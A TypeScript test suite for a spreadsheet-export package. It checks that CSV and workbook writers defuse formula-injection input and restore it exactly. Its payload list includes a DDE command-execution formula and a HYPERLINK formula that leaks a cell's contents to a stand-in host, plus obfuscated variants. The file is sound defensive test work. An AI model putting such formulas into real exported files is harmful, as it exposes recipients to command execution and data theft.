import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { neutralise, restored } from '../../src/write/neutralise.ts';
import { csvLine, quarantineCsv } from '../../src/write/quarantine.ts';
import { returnedWorkbook } from '../../src/write/returned.ts';
import { returnedCsv } from '../../src/write/returned-csv.ts';
import { writeWorkbook } from '../../src/write/sheet-writer.ts';
import { templateWorkbook } from '../../src/write/template.ts';
import { templateCsv } from '../../src/write/template-csv.ts';
import { opened, planOf, refusedRow, SETTINGS, sheetNamed, TABLE, textOf } from './plans.ts';

const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://x.example/?d="&A1,"点此")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '  ＠SUM(A1)',
  '\u200b=1+1',
  "'=1+1",
] as const;
const reason = (text: string) => ({ code: 'NUM_FORMAT', cell: '10月!B5', message: `${text} / ${text}` });
const row = (text: string) => refusedRow(5, ['喀什市', text, '', text], reason(text));
const unit = (text: string) => ({ code: text, name: text, short: text, kind: 'county', aliases: [text], local: false });

/** Everything in the package that writes something for people, with a text of the sender's in every place that takes one. */
const WRITERS: Record<string, (text: string) => Promise<string[]> | string[]> = {
  csvLine: (text) => csvCells(csvLine([text, text])),
  quarantineCsv: (text) => csvCells(quarantineCsv([row(text)], [text])),
  returnedCsv: (text) =>
    csvCells([...returnedCsv({ plan: planOf([tableSaying(text)]), ledger: [row(text)] })].join('')),
  templateCsv: (text) => csvCells(templateCsv('sales', [unit(text)], '2025-10')),
  writeWorkbook: async (text) =>
    sheetCells(await writeWorkbook(text, [{ name: 'x', rows: [[text, { value: text }]] }])),
  returnedWorkbook: async (text) => {
    const returned = { plan: planOf([tableSaying(text)]), ledger: [row(text)], fileName: text };
    return sheetCells(await returnedWorkbook({ ...returned, jurisdiction: { code: text, name: text } }));
  },
  templateWorkbook: async (text) => {
    const settings = { ...SETTINGS, keyHeaders: { ...SETTINGS.keyHeaders, region: [text], month: [text] } };
    const jurisdiction = { code: text, name: text };
    return sheetCells(
      await templateWorkbook('sales', { regions: [unit(text)], month: '2025-10', settings, jurisdiction }),
    );
  },
};

function tableSaying(text: string) {
  return { ...TABLE, head: [[text], ['', text], [text, text, '', text], ['', text, text, '']] };
}

function csvCells(text: string): string[] {
  return (parse(text, { bom: true, relax_column_count: true }) as string[][]).flat();
}

function sheetCells(bytes: Buffer): string[] {
  const book = opened(bytes);
  return book.SheetNames.flatMap((name) =>
    Object.entries(sheetNamed(book, name)).flatMap(([at, cell]) => {
      if (at.startsWith('!')) return [];
      expect(cell.f, `${name}!${at} is a formula`).toBeUndefined();
      return cell.t === 's' ? [String(cell.v)] : [];
    }),
  );
}

const cases = Object.keys(WRITERS).flatMap((writer) => PAYLOADS.map((payload) => ({ writer, payload })));

test.each(cases)('$writer writes $payload as text that no spreadsheet runs', async ({ writer, payload }) => {
  const cells = (await WRITERS[writer]?.(payload)) ?? [];
  const guarded = cells.filter((cell) => cell === `'${payload}`);
  expect(guarded.length).toBeGreaterThan(0);
  expect(cells.filter((cell) => neutralise(restored(cell)) !== cell)).toEqual([]);
  expect(cells.filter((cell) => /^[\s\0]*[=+@＝＋＠]/u.test(cell))).toEqual([]);
  expect(guarded.map(restored)).toEqual(guarded.map(() => payload));
});

test.each(['-12.5', '-1,234.50', '-', '--', '－', '—', '0', '', "'", "it's", "'引用'", '2025-10', 'a=b'])(
  '%j stays as it is, both ways',
  (text) => {
    expect([neutralise(text), restored(text)]).toEqual([text, text]);
  },
);

const cellText = fc.oneof(
  fc.string({ unit: 'grapheme', maxLength: 30 }),
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc.stringMatching(/^[ '\t\r\n\0=+\-@＝＋－＠_x0-9a-fA-F]{0,14}$/u),
  fc.constantFrom(
    ...PAYLOADS,
    '#REF!',
    '#N/A',
    '_x000D_',
    '_x005F_x0041_',
    '\ufffe\uffff',
    ' 前后 ',
    'a\r\nb\n',
    '\ud83c',
  ),
);

test('whatever a cell says, what was put on is taken off again exactly', () => {
  fc.assert(
    fc.property(cellText, (text) => {
      expect(restored(neutralise(text))).toBe(text);
    }),
    { seed: 20251125, numRuns: 3000 },
  );
});

test('any cell of a sender is read back from CSV and from a workbook as it was', async () => {
  await fc.assert(
    fc.asyncProperty(fc.array(cellText, { minLength: 1, maxLength: 60 }), async (texts) => {
      const book = opened(await writeWorkbook('t', [{ name: '表', rows: texts.map((text) => ['|', text]) }]));
      const sheet = sheetNamed(book, '表');
      const oneEnd = (text: string) => text.replaceAll('\r\n', '\n'); // the library that reads it makes one of the two
      expect(texts.map((_, at) => restored(textOf(sheet, at + 1)[1] ?? ''))).toEqual(texts.map(oneEnd));
      const csv = parse(texts.map((text) => csvLine(['|', text])).join('')) as string[][];
      expect(csv.map(([, text = '']) => restored(text))).toEqual(texts.map((text) => text.toWellFormed()));
    }),
    { seed: 20251125, numRuns: 60 },
  );
});
